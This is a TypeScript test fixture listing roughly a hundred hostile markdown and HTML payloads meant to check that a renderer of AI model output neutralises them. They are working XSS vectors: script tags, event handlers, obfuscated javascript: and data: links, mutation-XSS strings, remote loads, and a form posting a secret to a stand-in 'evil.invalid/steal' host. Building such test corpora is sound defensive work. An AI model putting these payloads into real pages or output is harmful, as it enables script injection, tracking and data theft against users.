// The S3 corpus: model output that tries to run script, load something, navigate or plant markup when
// rendered as markdown. Payloads set the canary `window.__pwned` or open a dialog if they ever execute;
// remote hosts use the reserved `.invalid` TLD so nothing could resolve even if a request escaped.
export interface HostilePayload {
  name: string
  text: string
}

const PWN = 'window.__pwned=1'
const EVIL = 'https://evil.invalid'

export const HOSTILE_PAYLOADS: readonly HostilePayload[] = [
  // Raw HTML elements that execute or load
  { name: 'script block', text: `<script>${PWN}</script>` },
  { name: 'script inline in a paragraph', text: `hello <script>${PWN}</script> world` },
  { name: 'img onerror block', text: `<img src=x onerror="${PWN}">` },
  { name: 'img onerror inline', text: `look: <img src="x" onerror=alert(1)> here` },
  { name: 'img unclosed tag', text: `<img src=x onerror=${PWN}//` },
  { name: 'svg onload', text: `<svg onload="${PWN}">` },
  { name: 'svg script', text: `<svg><script>${PWN}</script></svg>` },
  {
    name: 'svg xlink javascript',
    text: `<svg><a xlink:href="javascript:${PWN}"><text y="20">x</text></a></svg>`,
  },
  { name: 'iframe srcdoc', text: `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>` },
  { name: 'iframe javascript src', text: `<iframe src="javascript:parent.__pwned=1"></iframe>` },
  { name: 'iframe remote src', text: `<iframe src="${EVIL}/frame"></iframe>` },
  { name: 'base href', text: `<base href="${EVIL}/">\n\n[relative](/x)` },
  { name: 'base target', text: '<base target="_blank">' },
  { name: 'meta refresh', text: `<meta http-equiv="refresh" content="0;url=${EVIL}/">` },
  { name: 'meta set-cookie', text: '<meta http-equiv="set-cookie" content="pwned=1">' },
  {
    name: 'form action',
    text: `<form action="${EVIL}/steal"><input name=q value=secret><button>Go</button></form>`,
  },
  { name: 'formaction javascript', text: `<form><button formaction="javascript:${PWN}">x</button></form>` },
  { name: 'object data', text: `<object data="${EVIL}/x.swf"></object>` },
  {
    name: 'object data URL',
    text: `<object data="data:text/html,<script>parent.__pwned=1</script>"></object>`,
  },
  { name: 'embed src', text: `<embed src="${EVIL}/x.swf">` },
  { name: 'embed javascript', text: `<embed src="javascript:${PWN}">` },
  { name: 'style remote background', text: `<style>body{background:url(${EVIL}/bg.png)}</style>` },
  { name: 'style expression', text: '<style>*{width:expression(alert(1))}</style>' },
  { name: 'style attribute url', text: `<div style="background-image:url(${EVIL}/a.png)">styled</div>` },
  { name: 'link stylesheet', text: `<link rel="stylesheet" href="${EVIL}/s.css">` },
  { name: 'link import', text: `<link rel=import href=${EVIL}/i.html>` },
  { name: 'anchor javascript href', text: `<a href="javascript:${PWN}">click me</a>` },
  { name: 'anchor onclick', text: `<a href="https://example.com" onclick="${PWN}">ok</a>` },
  { name: 'anchor entity href', text: '<a href="javas&#99;ript:alert(1)">x</a>' },
  { name: 'details ontoggle', text: `<details open ontoggle="${PWN}"><summary>s</summary></details>` },
  { name: 'video source onerror', text: `<video><source onerror="${PWN}"></video>` },
  { name: 'audio onerror', text: `<audio src=x onerror=${PWN}>` },
  { name: 'body onload', text: `<body onload=${PWN}>` },
  { name: 'input autofocus onfocus', text: `<input autofocus onfocus=${PWN}>` },
  { name: 'marquee onstart', text: `<marquee onstart=${PWN}>m</marquee>` },
  { name: 'isindex', text: `<isindex type=image src=1 onerror=${PWN}>` },
  { name: 'math mutation', text: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>' },
  { name: 'noscript mutation', text: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">' },
  { name: 'split script tag', text: `<scr<script>ipt>${PWN}</script>` },
  { name: 'template', text: `<template><img src=x onerror=${PWN}></template>` },
  // Markdown links
  { name: 'markdown javascript link', text: `[click](javascript:${PWN})` },
  { name: 'markdown mixed-case javascript', text: `[click](JaVaScRiPt:${PWN})` },
  { name: 'markdown javascript in angle brackets', text: `[click](<javascript:${PWN}>)` },
  { name: 'markdown javascript after spaces', text: `[click](   javascript:${PWN})` },
  { name: 'decimal entity javascript', text: `[click](&#106;avascript:${PWN})` },
  { name: 'hex entity javascript', text: `[click](&#x6A;avascript:${PWN})` },
  { name: 'padded decimal entities', text: '[click](&#0000106&#0000097&#0000118&#0000097script:alert(1))' },
  { name: 'entity tab inside scheme', text: `[click](java&#09;script:${PWN})` },
  { name: 'named tab inside scheme', text: `[click](java&Tab;script:${PWN})` },
  { name: 'entity newline inside scheme', text: `[click](jav&#x0A;ascript:${PWN})` },
  { name: 'literal tab inside scheme', text: `[click](java\tscript:${PWN})` },
  { name: 'entity colon', text: `[click](javascript&colon;${PWN})` },
  { name: 'control character prefix', text: `[click](\u0001javascript:${PWN})` },
  { name: 'backslash-escaped scheme', text: `[click](javascript\\:${PWN})` },
  { name: 'data text/html link', text: `[click](data:text/html,<script>${PWN}</script>)` },
  {
    name: 'data base64 link',
    text: '[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+)',
  },
  { name: 'vbscript link', text: '[click](vbscript:msgbox(1))' },
  { name: 'file link', text: '[click](file:///etc/passwd)' },
  { name: 'relative link', text: '[settings](/settings) [up](../../etc) [frag](#top)' },
  { name: 'title attribute injection', text: `[x](https://example.com "t\\" onmouseover=\\"${PWN}")` },
  { name: 'html in link text', text: `[<img src=x onerror=${PWN}>](https://example.com)` },
  { name: 'link text javascript autolink inside', text: `[<javascript:${PWN}>](https://example.com)` },
  // Autolinks and bare URLs
  { name: 'autolink javascript', text: `<javascript:${PWN}>` },
  { name: 'autolink uppercase javascript', text: `<JAVASCRIPT:${PWN}>` },
  { name: 'autolink vbscript', text: '<vbscript:msgbox(1)>' },
  { name: 'autolink data', text: '<data:text/html,alert(1)>' },
  { name: 'autolink with quote', text: '<https://example.com/"onmouseover="alert(1)>' },
  { name: 'bare URL followed by script', text: `https://example.com/"><script>${PWN}</script>` },
  { name: 'www URL followed by img', text: 'www.example.com/<img src=x onerror=alert(1)>' },
  { name: 'bare javascript text', text: `javascript:${PWN}` },
  // Reference definitions
  { name: 'full reference to javascript', text: `[x][ref]\n\n[ref]: javascript:${PWN}` },
  { name: 'shortcut reference to entity javascript', text: `[ref]\n\n[ref]: &#106;avascript:${PWN}` },
  { name: 'collapsed reference in angle brackets', text: '[r][]\n\n[r]: <javascript:alert(1)> "title"' },
  { name: 'reference defined before use', text: `[r]: javascript:${PWN}\n\nsee [r]` },
  { name: 'footnote style definition', text: '[^1]\n\n[^1]: javascript:alert(1)' },
  // Images
  { name: 'image javascript src', text: `![img](javascript:${PWN})` },
  { name: 'image remote src', text: `![tracker](${EVIL}/pixel.png)` },
  { name: 'image svg data URL', text: `![svg](data:image/svg+xml,<svg onload=${PWN}>)` },
  { name: 'image reference remote', text: `![x][img]\n\n[img]: ${EVIL}/tracker.gif` },
  { name: 'image alt injection', text: `![x" onerror="${PWN}](${EVIL}/x.png)` },
  { name: 'image inside link', text: `[![a](${EVIL}/a.png)](javascript:${PWN})` },
  // Comments, CDATA, code
  { name: 'HTML comment', text: `<!-- <script>${PWN}</script> -->` },
  { name: 'unterminated comment', text: `<!-- <img src=x onerror=${PWN}>` },
  { name: 'CDATA', text: `<![CDATA[<script>${PWN}</script>]]>` },
  { name: 'processing instruction', text: `<?xml-stylesheet href="${EVIL}/x.xsl"?>` },
  { name: 'declaration', text: '<!DOCTYPE html [<!ENTITY x "y">]>' },
  { name: 'code span with script', text: `\`<script>${PWN}</script>\`` },
  { name: 'nested backticks', text: '``` `` <img src=x onerror=alert(1)> `` ```' },
  {
    name: 'fenced code with script',
    text: `\`\`\`html\n<script>${PWN}</script>\n<img src=x onerror=alert(1)>\n\`\`\``,
  },
  { name: 'info string injection', text: '```"><img src=x onerror=alert(1)>\ncode\n```' },
  { name: 'info string with event', text: '```html onload=alert(1)\n<b>x</b>\n```' },
  { name: 'unclosed fence with html', text: `\`\`\`\n<svg onload=${PWN}>` },
  { name: 'indented code with html', text: `text\n\n    <img src=x onerror=${PWN}>` },
  // Inside other constructs
  { name: 'html in emphasis', text: `**<img src=x onerror=${PWN}>**` },
  {
    name: 'table with payloads',
    text:
      `| <img src=x onerror=${PWN}> | [x](javascript:${PWN}) |\n|---|---|\n` +
      `| <script>${PWN}</script> | ok |`,
  },
  { name: 'task list with payloads', text: `- [ ] <svg onload=${PWN}>\n- [x] [x](javascript:${PWN})` },
  {
    name: 'block quote with iframe',
    text: `> <iframe src=javascript:parent.__pwned=1>\n> [x](javascript:${PWN})`,
  },
  { name: 'heading with img', text: `# <img src=x onerror=${PWN}>` },
  { name: 'html block then markdown', text: `<div>\n\n[x](javascript:${PWN})\n\n</div>` },
  { name: 'escaped html entities', text: `&lt;script&gt;${PWN}&lt;/script&gt;` },
  { name: 'mailto with html body', text: '[mail](mailto:a@example.com?body=<script>alert(1)</script>)' },
]
